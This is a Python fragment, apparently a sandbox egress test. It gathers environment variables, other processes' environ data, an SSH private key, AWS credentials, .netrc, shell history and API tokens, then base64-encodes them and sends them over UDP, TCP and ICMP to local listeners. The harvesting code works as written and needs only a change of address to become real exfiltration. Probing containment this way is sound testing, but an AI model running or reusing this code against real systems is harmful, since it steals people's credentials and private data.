import base64
import socket


def before():
    home = kit.PLACES["home"]
    found = json.dumps(dict(os.environ)).encode()
    for pid in kit.processes():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found += file.read()
        except OSError:
            pass
    for name in (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".config/trialdeck/config.toml", ".bash_history", "notes.txt", ".cache/huggingface/token"):
        for base in (home, os.path.expanduser("~")):
            found += kit.reads(f"{base}/{name}")
    kit.loot(found)
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", kit.PLACES["udp"])),
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", kit.PLACES["tcp"])),
    ):

        def sent():
            one = socket.socket(family, kind)
            one.settimeout(0.3)
            one.connect(address)
            one.send(base64.b64encode(found)[:8000])
            return True

        # A datagram may leave into nothing: whether it came, the listener says.
        try:
            sent()
        except OSError as error:
            kit.say(f"NO send {address}: {error!r}")
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        raw.sendto(b"\x08\x00", ("127.0.0.1", 0))
        kit.say("sent ICMP into what may be nothing")
    except OSError as error:
        kit.say(f"NO ICMP: {error!r}")
